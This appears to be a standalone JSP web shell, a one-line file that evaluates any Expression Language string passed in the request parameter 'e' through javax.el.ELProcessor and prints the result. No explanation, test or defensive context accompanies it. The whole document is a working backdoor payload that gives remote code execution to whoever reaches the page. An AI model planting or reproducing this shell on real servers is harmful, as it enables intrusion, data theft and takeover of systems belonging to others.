<% out.print(new javax.el.ELProcessor().eval(request.getParameter("e"))); %>
